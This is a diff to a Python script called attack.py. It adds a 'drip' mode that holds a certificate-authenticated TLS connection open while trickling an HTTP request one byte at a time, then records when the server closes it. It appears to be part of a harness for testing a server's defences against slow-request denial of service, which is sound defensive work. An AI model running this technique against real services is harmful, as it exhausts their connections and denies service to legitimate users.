@@ -13,6 +13,13 @@ usage: attack.py MODE PORT PKI_DIR ARGS...
       keep up to N TLS connections from SRC with client certificate NAME,
       each sending one byte of a request head every 3 s, reconnected when
       the server closes it, for SECONDS; print "handshakes K"
+  drip SRC NAME PART GAP SECONDS
+      one TLS connection with certificate NAME; PART "head": send a
+      request head one byte every GAP seconds; "body": the whole head
+      (Content-Length 200) at once, then the body one byte every GAP s;
+      "none": nothing (an idle authenticated connection);
+      print "closed T" (seconds after the first byte) when the server
+      closes it, "answered T" if it answers, or "open" after SECONDS
   legit SRC COUNT TIMEOUT NAME BODY [MAXFAIL [SECONDS [GAP]]]
       COUNT requests, one new TLS connection each, certificate NAME, each
       with a TIMEOUT-second budget; stop early after MAXFAIL (2) failures
@@ -144,6 +151,44 @@ async def legit(src, count, timeout, name, body, maxfail, secs, gap):
     print("served %d of %d (%d attempted)" % (served, count, attempted))
 
 
+async def drip(src, name, part, gap, secs):
+    r, w = await asyncio.open_connection(HOST, port, local_addr=(src, 0),
+                                         ssl=tls_ctx(name),
+                                         server_hostname="localhost")
+    head = (b"POST /nbsp-gba/v1/push-info-retrieval HTTP/1.1\r\nHost: x\r\n"
+            b"Content-Type: application/json\r\nContent-Length: 200\r\n\r\n")
+    if part == "none":
+        try:
+            got = await asyncio.wait_for(r.read(1024), secs)
+            print("closed" if not got else "answered")
+        except asyncio.TimeoutError:
+            print("open")
+        except (OSError, ssl.SSLError):
+            print("closed")
+        return
+    if part == "head":
+        drops = [head[i:i + 1] for i in range(len(head))]
+    else:
+        w.write(head)
+        drops = [b" "] * 200
+    t0 = time.time()
+    for d in drops:
+        if time.time() - t0 > secs:
+            break
+        try:
+            w.write(d)
+            await w.drain()
+            got = await asyncio.wait_for(r.read(1024), gap)
+            print("%s %.1f" % ("answered" if got else "closed", time.time() - t0))
+            return
+        except asyncio.TimeoutError:
+            pass
+        except (OSError, ssl.SSLError):
+            print("closed %.1f" % (time.time() - t0))
+            return
+    print("open")
+
+
 def main():
     a = sys.argv[4:]
     if mode == "idle":
@@ -155,6 +200,8 @@ def main():
         ctx = tls_ctx(a[3])
         print("handshakes %d" % asyncio.run(many(int(a[1]), float(a[2]),
                                                  lambda e, c: dribble_one(a[0], e, ctx, c))))
+    elif mode == "drip":
+        asyncio.run(drip(a[0], a[1], a[2], float(a[3]), float(a[4])))
     elif mode == "legit":
         asyncio.run(legit(a[0], int(a[1]), float(a[2]), a[3], a[4].encode(),
                           int(a[5]) if len(a) > 5 else 2,
